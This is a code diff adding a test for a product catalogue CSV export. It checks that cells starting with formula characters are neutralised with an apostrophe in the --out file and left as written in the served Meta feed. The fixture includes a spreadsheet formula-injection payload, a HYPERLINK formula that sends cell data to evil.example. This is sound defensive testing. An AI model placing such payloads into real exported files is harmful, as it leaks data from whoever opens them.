@@ -175,4 +175,56 @@ describe('Meta catalogue feed', () => {
     const noImage = (rows: Record<string, string>[]) => rows.map(({ image_link: _image, ...rest }) => rest);
     expect(noImage(rowsOf(readFileSync(out, 'utf8')))).toEqual(noImage(rowsOf((await fetchFeed(url)).text)));
   });
+
+  it('--out neutralises cells a spreadsheet would run as formulas (OWASP: = + - @ tab CR first); the feed Meta fetches keeps them as written', async () => {
+    const hostile = {
+      sku: '@SKU-1',
+      name: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      description: '-50% off, +GST included',
+      variants: [
+        {
+          sku: '+SKU-1-M',
+          name: 'M',
+          attributes: { Colour: '\tRed', Size: '\rM' },
+          selling_price: '499.00',
+          mrp: '499.00',
+          stock: '2',
+        },
+      ],
+    };
+    const s = await shop(ctx, [hostile]);
+    const [{ id: productId }] = await ctx.db.query<{ id: string }>(sql`SELECT id FROM products WHERE company_id = ${s.companyId}`);
+    const brandId = await addBrand(ctx.db, s.companyId, '=1+1', `f-${s.companyId.slice(-6)}`);
+    await ctx.db.query(sql`UPDATE products SET brand_id = ${brandId} WHERE company_id = ${s.companyId} AND id = ${productId}`);
+    mkdirSync(join(mediaDir, s.companyId), { recursive: true });
+    writeFileSync(join(mediaDir, s.companyId, 'p.jpg'), Buffer.from([0xff, 0xd8, 0xff, 0xd9]));
+    await addPhoto(ctx.db, s.companyId, productId, `${s.companyId}/p.jpg`);
+    const { token } = await ctx.services.feeds.rotate(s.companyId, TEMPLATE);
+
+    const saved = { PUBLIC_URL: process.env.PUBLIC_URL, MEDIA_DIR: process.env.MEDIA_DIR };
+    Object.assign(process.env, { PUBLIC_URL: 'https://api.example.in', MEDIA_DIR: mediaDir });
+    onTestFinished(() => {
+      for (const [k, v] of Object.entries(saved))
+        if (v === undefined) delete process.env[k];
+        else process.env[k] = v;
+    });
+    const out = join(mkdtempSync(join(tmpdir(), 'feed-')), 'feed.csv');
+    expect(await runAdmin(['catalog', 'feed', '--company', s.company.slug, '--out', out, '--json'], () => {}, { db: ctx.testDb.db })).toBe(0);
+    const [file] = rowsOf(readFileSync(out, 'utf8'));
+    expect(file).toMatchObject({
+      id: "'+SKU-1-M",
+      item_group_id: "'@SKU-1",
+      title: `'${hostile.name} - M`,
+      description: "'-50% off, +GST included",
+      brand: "'=1+1",
+      color: "'\tRed",
+      size: "'\rM",
+    });
+    // no cell of the file starts with a formula character any more
+    for (const [column, cell] of Object.entries(file)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
+
+    const [served] = rowsOf((await fetchFeed(`https://api.example.in/feeds/meta/${s.companyId}/${token}.csv`)).text);
+    expect(served).toMatchObject({ id: '+SKU-1-M', item_group_id: '@SKU-1', description: '-50% off, +GST included', brand: '=1+1', color: '\tRed' });
+    expectMetaRow(served);
+  });
 });
